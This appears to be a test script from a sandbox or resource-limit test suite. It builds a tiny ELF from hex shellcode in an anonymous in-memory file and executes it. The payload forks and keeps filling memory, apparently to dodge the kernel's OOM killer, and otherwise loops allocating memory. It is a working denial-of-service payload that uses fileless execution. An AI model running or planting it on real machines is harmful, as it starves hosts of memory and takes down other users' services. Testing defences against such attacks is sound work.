"""Is smaller than the launcher where the kernel looks whom to kill for memory, and fills it."""
import os
import struct

from attempts import ARM, write

write('/proc/self/oom_score_adj', b'0')

# forks three times, then fills one file without a name after the other
CODE = bytes.fromhex(
    'bb03000000b8390000000f05ffcb75f5b83f010000488d3d1900000031f60f05'
    '89c7b81d01000031f631d241ba000070000f05ebdb00')
BASE = 0x400000
HEAD = struct.pack('<16sHHIQQQIHHHHHH', b'\x7fELF\2\1\1', 2, 62, 1, BASE + 120, 64, 0, 0, 64, 56, 1,
                   0, 0, 0)
LOAD = struct.pack('<IIQQQQQQ', 1, 5, 0, BASE, BASE, 120 + len(CODE), 120 + len(CODE), 4096)
if not ARM:
    program = os.memfd_create('filler', 0)
    os.write(program, HEAD + LOAD + CODE)
    os.execv('/proc/self/fd/%d' % program, ['filler'])
held = []
while True:
    held.append(bytearray(1 << 20))
